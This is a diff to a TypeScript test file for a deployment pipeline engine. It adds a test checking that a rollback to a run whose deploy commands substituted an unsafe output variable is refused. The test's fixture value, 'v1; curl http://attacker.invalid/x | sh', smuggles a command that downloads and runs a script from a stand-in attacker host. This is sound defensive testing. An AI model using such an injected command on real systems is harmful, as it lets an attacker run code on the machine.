@@ -1,7 +1,10 @@
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Action, EnvironmentVariable } from '../../src/domain/pipeline.js';
+import type { Engine } from '../../src/engine/engine.js';
+import type { StateStore } from '../../src/stores/state/state-store.js';
 import { prepareJob } from '../../src/engine/dispatch/job-specs.js';
+import { planRollback } from '../../src/engine/rollback.js';
 import { testPipeline } from '../helpers/pipeline.js';
 import { openSqliteEngine } from '../helpers/sqlite-engine.js';
 import { tempDir } from '../helpers/temp.js';
@@ -30,9 +33,9 @@ const pipeline = testPipeline({
     {
       name: 'Deploy',
       actions: [
-        action('us-inline', 'us', ['deploy --tag #{B.TAG}']),
+        action('us-inline', 'us', ['deploy --tag #{B.TAG}'], { configuration: { tag: '#{B.TAG}' } }),
         action('us-env', 'us', ['deploy --tag "$TAG"'], { environmentVariables: [env('TAG', '#{B.TAG}')] }),
-        action('eu-inline', 'eu', ['deploy --tag #{B.TAG}']),
+        action('eu-inline', 'eu', ['deploy --tag #{B.TAG}'], { configuration: { tag: '#{B.TAG}' } }),
       ],
     },
   ],
@@ -46,13 +49,20 @@ afterEach(async () => {
 let tick = Date.parse('2026-12-05T10:00:00.000Z');
 const clock = { now: () => new Date((tick += 1)) };
 
-/** Runs the build with `tag` as its output variable and returns the Deploy stage's specs by action name. */
-async function deploySpecs(tag: string): Promise<Map<string, Awaited<ReturnType<typeof prepareJob>>>> {
-  const { engine, store } = await openSqliteEngine(path.join(tempDir(), 'state'), clock, 'test-host:1:abc', closers);
-  const context = { parameters: {}, variables: {}, sourceOverrides: {}, stores: {} };
+const context = { parameters: {}, variables: {}, sourceOverrides: {}, stores: {} };
+
+/** Starts an execution and completes its build with `tag` as the output variable; resolves with its id. */
+async function built(engine: Engine, store: StateStore, tag: string): Promise<string> {
   const id = await engine.start(pipeline, { type: 'cli' }, context);
   const [build] = await store.jobs(store.db, id, 'queued');
   await engine.completeJob(build!, { status: 'Succeeded', outputVariables: { TAG: tag } });
+  return id;
+}
+
+/** Runs the build with `tag` as its output variable and returns the Deploy stage's specs by action name. */
+async function deploySpecs(tag: string): Promise<Map<string, Awaited<ReturnType<typeof prepareJob>>>> {
+  const { engine, store } = await openSqliteEngine(path.join(tempDir(), 'state'), clock, 'test-host:1:abc', closers);
+  const id = await built(engine, store, tag);
   const specs = new Map<string, Awaited<ReturnType<typeof prepareJob>>>();
   for (const job of await store.jobs(store.db, id, 'queued')) {
     const spec = await prepareJob(store, job);
@@ -86,5 +96,26 @@ describe('an output variable set in one region and substituted into commands of 
     const specs = await deploySpecs(tag);
     expect(specs.get('us-inline')!.problem).toBeUndefined();
     expect(specs.get('us-inline')!.action.commands).toEqual([`deploy --tag ${tag}`]);
+  });
+});
+
+describe('a rollback to a run whose commands substituted such a value', () => {
+  // A run can hold one only if it was recorded before the check existed: its deploy jobs are
+  // completed here without their job specs, as an older Meridian ran them.
+  it('is not taken as a good run, and --to that run is refused with why', async () => {
+    const { engine, store } = await openSqliteEngine(path.join(tempDir(), 'state'), clock, 'test-host:1:abc', closers);
+    const older = await built(engine, store, 'v1; curl http://attacker.invalid/x | sh');
+    for (const job of await store.jobs(store.db, older, 'queued')) await engine.completeJob(job, { status: 'Succeeded', outputVariables: {} });
+    expect((await store.snapshot(store.db, older)).execution.status).toBe('Succeeded');
+    const forward = await built(engine, store, 'v2');
+    const snapshot = await store.snapshot(store.db, forward);
+
+    const plan = await planRollback(store, store.db, snapshot, 1, ['us', 'eu']);
+    expect(plan.without).toEqual(['us']);
+    expect(plan.groups.map((g) => [g.target, g.regions])).toEqual([[older, ['eu']]]);
+
+    const refused = planRollback(store, store.db, snapshot, 1, ['us'], older);
+    await expect(refused).rejects.toMatchObject({ code: 'CONFLICT' });
+    await expect(refused).rejects.toThrow(`execution ${older} cannot be gone back to in us: command 1 of us-inline (region us) substitutes #{B.TAG}`);
   });
 });
